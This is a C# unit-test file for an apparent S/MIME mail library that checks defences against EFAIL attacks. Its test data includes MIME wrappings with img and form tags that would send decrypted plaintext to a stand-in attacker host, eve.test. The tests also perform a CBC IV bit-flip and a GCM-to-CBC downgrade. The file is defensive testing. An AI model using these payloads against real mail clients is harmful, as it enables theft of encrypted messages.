using System.Text;
using static Chancery.Mail.Tests.Verifying;

namespace Chancery.Mail.Tests;

/// <summary>EFAIL (USENIX Security 2018), covert content (ESORICS 2019): nothing decrypted joins what stands outside, and what was not authenticated says so.</summary>
public sealed class EfailTests
{
    private const string Secret = "the-secret-plaintext";
    private static readonly TestPerson Alice = TestPeople.Alice;
    private static readonly TestPerson Bob = TestPeople.Bob;

    private static string Encrypted(MailPolicy policy = MailPolicy.Compatible) => Entity(Encoding.UTF8.GetString(SecureMail.Protect(
        Alice.Write(Bob.Address, Secret), new ProtectionSettings { Recipients = [new MailRecipient(Bob.Encryption.Certificate)], Policy = policy, Headers = HeaderProtection.None }).Value.Message));

    // Direct exfiltration: an image of which the ciphertext would be the address, the parts joined in many ways.
    public static TheoryData<string> Wrappings =>
    [
        "--b\r\nContent-Type: text/html\r\n\r\n<img src=\"http://eve.test/\r\n--b\r\n{0}\r\n--b\r\nContent-Type: text/html\r\n\r\n\">\r\n--b--\r\n",
        "--b\r\nContent-Type: text/plain\r\n\r\nPlease quote this.\r\n--b\r\n{0}\r\n--b--\r\n",
        "--b\r\n{0}\r\n--b\r\nContent-Type: text/html\r\n\r\n<img src=\"cid:x\">\r\n--b--\r\n",
        "--b\r\nContent-Type: multipart/related; boundary=c\r\n\r\n--c\r\nContent-Type: text/html\r\n\r\n<form action=http://eve.test><textarea name=x>\r\n--c\r\n{0}\r\n--c--\r\n--b--\r\n",
        "--b\r\nContent-Type: message/rfc822\r\n\r\nFrom: eve@example.test\r\n{0}\r\n--b--\r\n",
        "--b\r\n{0}\r\n--b--\r\n",
    ];

    [Theory]
    [MemberData(nameof(Wrappings))]
    public void Encrypted_part_among_others_is_never_opened(string wrapping)
    {
        using var keys = Bob.Keys;
        foreach (var type in new[] { "mixed", "related", "alternative" })
        {
            foreach (var policy in new[] { MailPolicy.Compatible, MailPolicy.Strict })
            {
                var eml = Encoding.UTF8.GetBytes(
                    $"From: eve@example.test\r\nContent-Type: multipart/{type}; boundary=b\r\n\r\n{wrapping.Replace("{0}", Encrypted(policy))}");

                var mail = SecureMail.Open(eml, keys).Value;

                Assert.Equal((false, MailProtection.None), (mail.WasEncrypted, mail.Protection));
                Assert.DoesNotContain(Secret, mail.Text + Encoding.UTF8.GetString(mail.Content) + string.Concat(mail.Attachments.Select(a => Encoding.UTF8.GetString(a.Content))));
                Fails(Verify(eml, Settings with { Keys = keys }), Verdict.Unverifiable, MailReasonCode.EncryptedPartOnly);
                Assert.DoesNotContain(Nodes(MailStructure.Inspect(eml, keys).Value), node => node.OpenedWith is not null);
            }
        }
    }

    [Fact]
    public void Encrypted_part_within_encrypted_content_is_not_opened_either()
    {
        var inner = $"From: eve@example.test\r\nTo: bob@example.test\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<img src=\"\r\n--b\r\n{Encrypted()}\r\n--b--\r\n";
        using var keys = Bob.Keys;
        var mail = SecureMail.Open(SecureMail.EncryptMessage(Encoding.UTF8.GetBytes(inner), [Bob.Encryption.Certificate]).Value, keys).Value;

        Assert.True(mail.WasEncrypted);
        Assert.DoesNotContain(Secret, Encoding.UTF8.GetString(mail.Content));
    }

    // The gadget attack: the first block of CBC can be chosen by whoever knows how the plaintext begins, and blocks spliced in after it.
    [Fact]
    public void Altered_content_of_CBC_says_that_nobody_vouches_for_it()
    {
        using var keys = Bob.Keys;
        var known = "Content-Type: te"u8;
        var wanted = "Content-Type: TE"u8;
        var cms = Convert.FromBase64String(Encrypted().Split("\r\n\r\n")[1].Replace("\r\n", ""));
        var iv = IvOf(cms);
        for (var i = 0; i < 16; i++)
        {
            cms[iv + i] ^= (byte)(known[i] ^ wanted[i]);
        }

        var eml = Encoding.UTF8.GetBytes(Opaque(cms).Replace("signed-data", "enveloped-data"));
        var mail = SecureMail.Open(eml, keys).Value;

        Assert.StartsWith("Content-Type: TE", Encoding.UTF8.GetString(mail.Content));
        Assert.Equal(new MailProtection(Confidentiality.EncryptedIntegrityUnknown, false), mail.Protection);
        Assert.Contains(MailReasonCode.IntegrityUnknown, Verify(eml, Settings with { Keys = keys }).Codes());
    }

    [Fact]
    public void Altered_content_of_GCM_does_not_open()
    {
        using var keys = Bob.Keys;
        var cms = Convert.FromBase64String(Encrypted(MailPolicy.Strict).Split("\r\n\r\n")[1].Replace("\r\n", ""));
        for (var at = cms.Length - 40; at < cms.Length; at++)
        {
            var altered = (byte[])cms.Clone();
            altered[at] ^= 1;
            var opened = SecureMail.Open(Encoding.UTF8.GetBytes(Opaque(altered)), keys);

            Assert.False(opened.IsOk);
        }
    }

    [Fact]
    public void Authenticated_mail_turned_into_CBC_does_not_show_its_content()
    {
        using var keys = Bob.Keys;
        var cms = Convert.FromBase64String(Encrypted(MailPolicy.Strict).Split("\r\n\r\n")[1].Replace("\r\n", ""));
        // aes256-GCM said to be aes256-CBC, the content type said to be EnvelopedData: the downgrade of RFC 9709.
        var gcm = Convert.FromHexString("060960864801650304012E");
        var at = cms.AsSpan().IndexOf(gcm);
        cms[at + gcm.Length - 1] = 0x2A;

        var opened = SecureMail.Open(Encoding.UTF8.GetBytes(Opaque(cms)), keys);

        Assert.True(!opened.IsOk || !opened.Value.Text.Contains(Secret));
    }

    private static IEnumerable<MailNode> Nodes(MailNode node) => node.Children.SelectMany(Nodes).Prepend(node);

    private static int IvOf(byte[] cms)
    {
        // AES-256-CBC, then the OCTET STRING of 16 bytes.
        ReadOnlySpan<byte> aes = [.. Convert.FromHexString("060960864801650304012A"), 0x04, 0x10];
        return cms.AsSpan().IndexOf(aes) + aes.Length;
    }
}
